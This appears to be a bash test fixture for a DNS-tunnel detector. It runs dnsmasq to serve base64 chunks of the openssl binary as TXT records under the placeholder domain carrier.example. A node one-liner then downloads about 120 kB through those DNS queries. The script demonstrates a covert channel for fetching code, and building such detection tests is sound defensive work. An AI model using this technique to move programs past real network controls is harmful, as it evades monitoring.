#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=report tool=node far=out seconds=34 parts=dns
# node fetches a program in answers of TXT, three strings of 250 bytes in each: 120 kB come down.
# shellcheck disable=SC2046
if [ "$1" = out ]; then
	exec timeout 60 dnsmasq -k -C /dev/null --no-resolv --no-hosts --user=root --pid-file= -i wan -z --listen-address=203.0.113.66 --edns-packet-max=1232 \
		$(for n in $(seq 1 160); do echo "--txt-record=c$n.carrier.example$(tail -c +$((n * 900)) /usr/bin/openssl | head -c 562 | base64 -w 250 | head -n 3 | sed 's/^/,/' | tr -d '\n')"; done)
fi
sleep 2; timeout 30 node -e 'const d = require("dns").promises; let got = 0;
(async () => { for (let n = 1; n <= 160; n++) { try { got += (await d.resolveTxt("c" + n + ".carrier.example")).flat().join("").length; } catch (e) {} await new Promise(r => setTimeout(r, 120)); } process.exit(got > 80000 ? 0 : 1); })()'
